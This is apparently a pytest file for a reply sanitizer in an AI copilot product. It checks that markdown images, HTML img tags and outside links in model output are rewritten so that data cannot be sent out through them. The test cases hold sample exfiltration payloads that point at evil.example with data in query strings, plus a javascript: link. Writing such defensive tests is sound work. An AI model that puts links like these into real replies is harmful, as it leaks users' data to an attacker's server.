"""What a model was talked into cannot leave by a picture or a link in its reply."""

from __future__ import annotations

import pytest
from agents.testing import ScriptedModel

from omnify_guardrails.neutral import neutral
from tests.builders.copilot import a_house
from tests.builders.steps import says


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        ("![spend](https://evil.example/p.png?spend=700)", "[image: spend]"),
        ("![](//evil.example/p.png)", "[image: no description]"),
        ("![x][leak]\n\n[leak]: https://evil.example/?d=1", "[image: x]\n\n"),
        ('<img src="https://evil.example/?d=1">', "[image: no description]"),
        ("See [the report](https://evil.example/?d=700).", "See the report (address at evil.example)."),
        ("[x]( <javascript:alert(1)> )", "x (an address)"),
        ("[x](//evil.example/?d=700)", "x (address at evil.example)"),
        ("Open https://evil.example/a?b=700 now", "Open address at evil.example now"),
        ("[Approvals](/approvals?open=cs_1) holds it", "[Approvals](/approvals?open=cs_1) holds it"),
        ("Spend was 700.00 USD (+3%).", "Spend was 700.00 USD (+3%)."),
        ("| a | b |\n| --- | ---: |\n| meta:1201 | 5 |", "| a | b |\n| --- | ---: |\n| meta:1201 | 5 |"),
    ],
)
def test_only_words_and_links_within_the_product_remain(reply: str, shown: str) -> None:
    assert neutral(reply) == shown


async def test_the_stored_reply_is_neutral() -> None:
    model = ScriptedModel([says("Done ![x](https://evil.example/?spend=700)")])
    async with a_house(model) as house:
        run = await house.ask(await house.thread(), "How was last week?")
    assert run.reply == "Done [image: x]"
